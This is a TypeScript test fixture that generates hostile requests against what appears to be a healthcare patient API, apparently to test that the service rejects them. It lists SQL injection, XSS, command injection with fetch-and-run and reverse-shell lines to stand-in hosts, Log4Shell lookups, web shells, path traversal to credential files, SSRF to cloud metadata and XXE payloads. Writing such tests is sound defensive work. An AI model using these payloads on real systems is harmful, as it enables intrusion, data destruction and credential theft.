/** A request that no client of ours sends. */
export interface Attack {
  /** Family and place. */
  name: string;
  path: string;
  method?: string;
  headers?: Record<string, string>;
  body?: string;
}

/** Texts by family of the OWASP Top 10 (2021): the ways in which it is tried. */
const families: Readonly<Record<string, readonly string[]>> = {
  'A03 SQL': [
    `' OR '1'='1' -- `,
    `1 UNION SELECT password FROM users`,
    `1' UNION ALL SELECT NULL,NULL,version()-- -`,
    `'; DROP TABLE patients; --`,
    `1 AND SLEEP(5)`,
    `1; EXEC xp_cmdshell('dir')`,
    `' AND 1=CONVERT(int,(SELECT @@version))--`,
    `1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- `,
    `' OR pg_sleep(10)--`,
    `1 UNION SELECT table_name FROM information_schema.tables`,
    `admin'/**/OR/**/1=1#`,
    `1' ORDER BY 10-- `,
  ],
  'A03 script': [
    `<script>alert(1)</script>`,
    `"><img src=x onerror=alert(document.cookie)>`,
    `<svg/onload=alert(1)>`,
    `<iframe src="javascript:alert(1)"></iframe>`,
    `<body onload=alert(1)>`,
    `<a href="javascript:alert(document.domain)">x</a>`,
    `<object data="javascript:alert(1)"></object>`,
    `<details open ontoggle=alert(1)>`,
    `<input autofocus onfocus=alert(1)>`,
    `<embed src="javascript:alert(1)">`,
  ],
  'A03 commands': [
    `; cat /etc/passwd`,
    `| wget http://evil.example/x.sh -O- | sh`,
    `$(curl http://evil.example/x)`,
    '`id`; uname -a',
    `; nc -e /bin/sh 10.0.0.1 4444`,
    `() { :; }; /bin/bash -c "id"`,
    `& powershell -enc SQBFAFgA`,
    `; python -c 'import os; os.system("id")'`,
    `&& /bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`,
  ],
  'A03 templates and code': [
    `<?php system($_GET['c']); ?>`,
    `<?php eval(base64_decode('aWQ=')); ?>`,
    `O:8:"stdClass":1:{s:1:"a";s:1:"b";}`,
    `require('child_process').exec('id')`,
    `process.mainModule.require('child_process').execSync('id')`,
    `__proto__[admin]=1; constructor.prototype.x=1`,
    `<%= File.open('/etc/passwd').read %>`,
  ],
  'A01 paths': [
    `../../../../etc/passwd`,
    `..\\..\\..\\windows\\win.ini`,
    `....//....//etc/shadow`,
    `/var/www/../../etc/passwd`,
    `%252e%252e%252f%252e%252e%252fetc%252fpasswd`,
    `/proc/self/environ`,
    `../.ssh/id_rsa`,
    `../../.env`,
  ],
  'A06 Java': [
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:ldap://evil.example/a}',
    '${jndi:rmi://evil.example/a}',
    `java.lang.Runtime.getRuntime().exec("id")`,
    `%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}`,
    `class.module.classLoader.resources.context.parent.pipeline.first.pattern=x`,
    `T(java.lang.Runtime).getRuntime().exec('id')`,
  ],
  'A10 other servers': [
    `http://169.254.169.254/latest/meta-data/iam/security-credentials/`,
    `http://metadata.google.internal/computeMetadata/v1/`,
    `http://127.0.0.1/server-status`,
    `gopher://127.0.0.1:6379/_INFO`,
    `http://192.168.0.1/?`,
  ],
};

const patient = '0d9f3c0e-6a3c-4a59-9a2a-0f6f5c1f0001';
const json = (body: unknown) => ({ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });

/** Places of a request, each with the families that can do harm there. */
const places: Readonly<Record<string, { of?: readonly string[]; make: (text: string) => Omit<Attack, 'name'> }>> = {
  'the query': { make: (text) => ({ path: `/v1/orgs/north/patients/${patient}/timeline?type=${encodeURIComponent(text)}` }) },
  'a body': { make: (text) => ({ path: '/v1/orgs/north/patients/search', ...json({ name: text }) }) },
  'a list deep in a body': { make: (text) => ({ path: '/v1/orgs/north/holds', ...json({ a: [{ b: ['x', { c: text }] }] }) }) },
  'a line of many': {
    make: (text) => ({
      path: '/v1/orgs/north/events',
      method: 'POST',
      headers: { 'content-type': 'application/x-ndjson' },
      body: `{"type":"a"}\n${JSON.stringify({ type: text })}\n`,
    }),
  },
  'an identifier of a resource': {
    make: (text) => ({
      path: '/v1/orgs/north/fhir/R4/Observation',
      method: 'POST',
      headers: { 'content-type': 'application/fhir+json' },
      body: JSON.stringify({ resourceType: 'Observation', identifier: [{ value: text }] }),
    }),
  },
  'a code of an entry': {
    make: (text) => ({ path: `/v1/orgs/north/patients/${patient}/events`, ...json({ type: 'note.written', data: { kind: text } }) }),
  },
};

/** Several hundred requests: every family at every place, and what stands in the head of a request. */
export function attacks(): Attack[] {
  const found: Attack[] = [];
  for (const [family, texts] of Object.entries(families))
    for (const [place, { make }] of Object.entries(places))
      for (const [at, text] of texts.entries()) found.push({ name: `${family} ${at + 1} in ${place}`, ...make(text) });
  return [...found, ...inHeads()];
}

function inHeads(): Attack[] {
  const path = '/v1/event-types';
  const agents = [
    'sqlmap/1.7',
    'Nikto/2.1.6',
    'nuclei - Open-source project',
    'masscan/1.0',
    'WPScan v3',
    'gobuster/3.1',
    'dirbuster',
    'Acunetix',
  ];
  const files = ['.git/config', 'wp-config.php', '.htaccess', 'web.config', 'etc/passwd', '.ssh/id_rsa', '.aws/credentials'];
  return [
    ...agents.map((agent) => ({ name: `A05 scanner ${agent}`, path, headers: { 'user-agent': agent } })),
    ...files.map((file) => ({ name: `A05 file ${file}`, path: `${path}/x?file=/${file}` })),
    ...families['A06 Java']!.slice(0, 3).map((text, at) => ({
      name: `A06 Java ${at + 1} in a header field`,
      path,
      headers: { 'x-api-version': text },
    })),
    ...families['A03 script']!.slice(0, 3).map((text, at) => ({
      name: `A03 script ${at + 1} in the referer`,
      path,
      headers: { referer: text },
    })),
    ...families['A03 SQL']!.slice(0, 3).map((text, at) => ({
      name: `A03 SQL ${at + 1} in a cookie`,
      path,
      headers: { cookie: `session=${encodeURIComponent(text)}` },
    })),
    { name: 'A05 shellshock in the agent', path, headers: { 'user-agent': '() { :; }; /bin/cat /etc/passwd' } },
    { name: 'A03 a line more in a header', path: `${path}?x=%0d%0aSet-Cookie:%20a=b` },
    { name: 'A05 XML with an entity', path: '/v1/orgs/north/patients/search', method: 'POST', headers: { 'content-type': 'application/xml' }, body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' }, // prettier-ignore
    { name: 'A08 a serialised object', path: '/v1/orgs/north/patients/search', method: 'POST', headers: { 'content-type': 'application/x-java-serialized-object' }, body: 'rO0ABXQ=' }, // prettier-ignore
    { name: 'A07 a session of another', path: `${path}?jsessionid=1234&PHPSESSID=1`, headers: { referer: 'http://evil.example/' } },
    { name: 'A05 a multipart form', path: '/v1/orgs/north/patients/search', method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=x' }, body: '--x\r\nContent-Disposition: form-data; name="a"; filename="a.php"\r\n\r\n<?php ?>\r\n--x--\r\n' }, // prettier-ignore
  ];
}
